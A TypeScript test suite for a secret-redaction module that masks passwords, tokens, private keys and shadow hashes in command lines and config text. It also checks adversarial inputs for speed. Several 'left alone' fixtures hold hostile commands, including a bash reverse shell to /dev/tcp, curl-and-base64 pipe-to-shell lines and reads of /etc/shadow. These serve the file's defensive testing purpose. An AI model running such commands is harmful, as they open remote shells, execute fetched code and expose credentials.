import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { redactArgv, redactText } from "./redact.ts";

const X = "[X]";
const hide = () => X;
const argv = (...words: string[]) => redactArgv(words, hide).argv;
const text = (value: string) => redactText(value, hide).text;

describe("arguments", () => {
  test.each([
    [
      ["x", "--password=hunter2"],
      ["x", `--password=${X}`],
    ],
    [
      ["x", "--password=a b;c&d,e"],
      ["x", `--password=${X}`],
    ],
    [
      ["x", "--password", "hunter2", "go"],
      ["x", "--password", X, "go"],
    ],
    [
      ["x", "--db-passwd", "hunter2"],
      ["x", "--db-passwd", X],
    ],
    [
      ["x", "-Djavax.net.ssl.keyStorePassword=changeit"],
      ["x", `-Djavax.net.ssl.keyStorePassword=${X}`],
    ],
    [
      ["env", "AWS_SECRET_ACCESS_KEY=abc/d", "y"],
      ["env", `AWS_SECRET_ACCESS_KEY=${X}`, "y"],
    ],
    [
      ["sh", "-c", "TOKEN=abc curl http://u:p@h/"],
      ["sh", "-c", `TOKEN=${X} curl http://u:${X}@h/`],
    ],
    [
      ["sh", "-c", "mysql -u root -phunter2 db"],
      ["sh", "-c", `mysql -u root -p${X} db`],
    ],
    [
      ["ssh", "h", "sh -c 'sshpass -p pw ssh -p 22 x'"],
      ["ssh", "h", `sh -c 'sshpass -p ${X} ssh -p 22 x'`],
    ],
    [
      ["curl", "-H", "Authorization: Bearer abc.def"],
      ["curl", "-H", `Authorization: Bearer ${X}`],
    ],
    [
      ["curl", "-u", "alice:pw", "h"],
      ["curl", "-u", `alice:${X}`, "h"],
    ],
    [
      ["curl", "-ualice:pw", "h"],
      ["curl", `-ualice:${X}`, "h"],
    ],
    [
      ["/usr/bin/mysql", "-uroot", "-phunter2"],
      ["/usr/bin/mysql", "-uroot", `-p${X}`],
    ],
    [
      ["sudo", "-u", "x", "mysqldump", "-phunter2"],
      ["sudo", "-u", "x", "mysqldump", `-p${X}`],
    ],
    [
      ["sshpass", "-p", "pw", "ssh", "-p", "22"],
      ["sshpass", "-p", X, "ssh", "-p", "22"],
    ],
    [
      ["twine", "upload", "-u", "u", "-p", "pw", "dist/x"],
      ["twine", "upload", "-u", "u", "-p", X, "dist/x"],
    ],
    [
      ["evil-winrm", "-i", "h", "-p", "pw"],
      ["evil-winrm", "-i", "h", "-p", X],
    ],
    [
      ["docker", "login", "-u", "u", "-p", "pw", "r"],
      ["docker", "login", "-u", "u", "-p", X, "r"],
    ],
    [
      ["htpasswd", "-nb", "u", "pw"],
      ["htpasswd", "-nb", "u", X],
    ],
    [
      ["smbclient", "-U", "u%pw", "//h/s"],
      ["smbclient", "-U", `u%${X}`, "//h/s"],
    ],
    [
      ["sqlplus", "u/pw@db"],
      ["sqlplus", `u/${X}`],
    ],
    [
      ["aws", "configure", "set", "aws_secret_access_key", "abc"],
      ["aws", "configure", "set", "aws_secret_access_key", X],
    ],
    [
      ["npm", "config", "set", "//r.example/:_authToken", "abc"],
      ["npm", "config", "set", "//r.example/:_authToken", X],
    ],
    [
      ["openssl", "enc", "-pass", "pass:pw"],
      ["openssl", "enc", "-pass", X],
    ],
    [
      ["x", "ghp_0123456789abcdefABCDEF0123456789abcd"],
      ["x", X],
    ],
  ])("%j", (words, expected) => {
    expect(argv(...words)).toEqual(expected);
  });

  test.each([
    [["x", "--password-file", "/etc/pw"]],
    [["x", "--password-file=/etc/pw"]],
    [["x", "--tokenizer=bpe"]],
    [["x", "--token-ttl=30"]],
    [["x", "--token", "--next"]],
    [["tar", "-p", "file"]],
    [["ssh", "-p", "22", "host"]],
    [["mysql", "-p", "db"]],
    [["curl", "-u", "alice", "h"]],
    [["passwd", "alice"]],
    [["x", "http://host/path"]],
    [["docker", "run", "-v", "/etc/passwd:/etc/passwd:ro", "-p", "80:80", "x"]],
    [["sh", "-c", "TOKEN=$(curl http://h/x | sh); echo ${SECRET}"]],
    [["sh", "-c", 'PASSWORD="bash -i >& /dev/tcp/10.0.0.1/443 0>&1"; eval $PASSWORD']],
    [["sqlplus", "-s", "/nolog", "@/tmp/x.sql"]],
  ])("left alone: %j", (words) => {
    expect(argv(...words)).toEqual(words);
    expect(redactArgv(words, hide).redacted).toBe(0);
  });
});

describe("texts", () => {
  test.each([
    ['{"password": "a b", "user": "u"}', `{"password": "${X}", "user": "u"}`],
    ['{\\"token\\":\\"abc\\"}', `{\\"token\\":\\"${X}\\"}`],
    ["//u:p@h/x username=u,password=p,uid=0", `//u:p@h/x username=u,password=${X},uid=0`],
    ["Server=x;Password=p;Database=d", `Server=x;Password=${X};Database=d`],
    ["DefaultEndpointsProtocol=https;AccountKey=ab+/=;X=y", `DefaultEndpointsProtocol=https;AccountKey=${X};X=y`],
    ['Environment="PGPASSWORD=a b" C=d', `Environment="PGPASSWORD=${X}" C=d`],
    ["env:\n  - name: DB_PASSWORD\n    value: pw\n", `env:\n  - name: DB_PASSWORD\n    value: ${X}\n`],
    ["<password>pw</password>", `<password>${X}</password>`],
    ["machine h login u password pw", `machine h login u password ${X}`],
    ["ALTER USER u WITH PASSWORD 'pw';", `ALTER USER u WITH PASSWORD '${X}';`],
    ["* * * * * root curl -s -u a:b https://h/", `* * * * * root curl -s -u a:${X} https://h/`],
    ["echo root:pw | chpasswd", `echo root:${X} | chpasswd`],
    ["http://h/c?sv=1&sig=ab%2Fc%3D&se=2", `http://h/c?sv=1&sig=${X}&se=2`],
    ["PrivateKey = aGVsbG8=\n", `PrivateKey = ${X}\n`],
    ["# don't\nexport DB_PASS='it is'\n", `# don't\nexport DB_PASS='${X}'\n`],
    ["cookie: a=b; c=d", `cookie: ${X}`],
  ])("%j", (value, expected) => {
    expect(text(value)).toBe(expected);
  });

  test.each([
    "OPS FRONT = (WEB) NOPASSWD: DEPLOY, SHELLS",
    "passwd: files systemd\nshadow: files\n",
    "password requisite pam_pwquality.so retry=3 use_authtok\n",
    "PWD=/root OLDPWD=/tmp",
    "nc secret.example:443 token.example:80",
    "echo aGVsbG8gd29ybGQgdGhpcyBpcyBhIHBheWxvYWQ= | base64 -d | sh",
    "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    "# -----BEGIN RSA PRIVATE KEY-----\ncurl http://h/x | sh\n",
    "cat /etc/passwd /etc/shadow; TOKEN_FILE=/tmp/.t",
    "root:*:19000:0:99999:7:::\nsystemd-network:!*:20780::::::\nroot:x:0:0:root:/root:/bin/bash",
    "PATH:/usr/local/sbin:/usr/local/bin:12:/opt/x",
  ])("left alone: %j", (value) => {
    expect(text(value)).toBe(value);
  });
});

test("some are taken out even when redaction is off", () => {
  const off = (secret: string, always?: boolean) => (always === true ? X : secret);
  const body = `${"A".repeat(64)}\n${"b".repeat(64)}\nCc==`;
  const key = `-----BEGIN OPENSSH PRIVATE KEY-----\n${body}\n-----END OPENSSH PRIVATE KEY-----`;
  const hash = `$6$salt$${"a".repeat(86)}`;
  expect(redactText(`x="${key}" TOKEN=abc usermod -p '${hash}'`, off)).toEqual({
    text: `x="${X}" TOKEN=abc usermod -p '${X}'`,
    redacted: 2,
  });
  expect(redactText(JSON.stringify({ key }), off).text).toBe(`{"key":"${X}"}`);
  expect(redactText(`${body}\n-----END OPENSSH PRIVATE KEY-----\n`, off).text).toBe(`${X}\n`);
});

test.each([
  [`des:${X}:19000:0:99999:7:::`, "abJnggxhB/yWI"],
  [`locked:!${X}:19000:0:99999:7:::`, "abJnggxhB/yWI"],
  [`netbsd:${X}:19000:0:99999:7:::`, "$sha1$480000$saltsalt$0123456789012345678901234567"],
  [`unknown:!${X}:19000:0:99999:7:::`, "$zz$salt,=$hash=="],
  [`bsdi:${X}:::::::`, "_J9..K0AyUubDrZ.9Wq2"],
  [`x\nold:${X}:1000:1000:Old:/home/old:/bin/sh\n`, "abJnggxhB/yWI"],
])("lines of shadow and passwd too: %s", (redacted, hash) => {
  expect(redactText(redacted.replace(X, hash), (secret, always) => (always === true ? X : secret)).text).toBe(redacted);
});

test("private keys by name, and what npm and Docker keep, are among them", () => {
  const off = (secret: string, always?: boolean) => (always === true ? X : secret);
  for (const [before, after] of [
    ["PrivateKey = ", ""],
    ["client-key-data: ", ""],
    ["//registry.example/:_authToken=", ""],
    ['{"auths":{"r":{"auth":"', '"}}}'],
  ] as const) {
    expect(redactText(`${before}aGVsbG8=${after}`, off).text).toBe(before + X + after);
  }
});

test("counts what it took out", () => {
  expect(redactArgv(["x", "--token=a", "--secret", "b"], hide).redacted).toBe(2);
});

describe("any text ends, soon", () => {
  const pieces = [
    ..."password|token=|://|://a:|a|-|--secret |authorization:|eyJ|token=token=|'|\"|`|\\".split("|"),
    "$(",
    "-----BEGIN PRIVATE KEY-----",
    `${"A".repeat(64)}\n`,
    "A",
    "sk-",
    "mysql -p",
    "name: a value: ",
    "echo ",
    "<a>",
    "sh -c '",
    "_auth",
    "key",
    ",",
    "=",
  ];
  test.each(pieces)(
    "32 KiB of %j",
    (piece) => {
      const value = piece.repeat(32_768 / piece.length);
      expect(redactArgv(["x", value], hide).argv).toHaveLength(2);
      expect(redactArgv(["password", value], hide).argv).toHaveLength(2);
      text(`password${value}`);
    },
    10_000,
  );

  test("as many arguments come back, and what is no secret stays", () => {
    const arg = fc.oneof(
      fc.string({ unit: "binary" }),
      fc.constantFrom("--password", "-p", "token=x", "://a:b@", "mysql", "'", '"'),
    );
    fc.assert(
      fc.property(fc.array(arg), (words) => {
        expect(argv(...words)).toHaveLength(words.length);
        expect(redactArgv(words, (secret) => secret).argv).toEqual(words);
      }),
    );
  });
});

test.each([
  ["blanks behind a name", `password=${" ".repeat(200_000)}`],
  ["what only a shell needs, and no end of it", `password="${"a;".repeat(100_000)}`],
])("a text made to keep us busy ends within the time of a test: %s", (_, text) => {
  expect(redactArgv(["mysql", text, "-p", text], () => X).argv).toHaveLength(4);
});
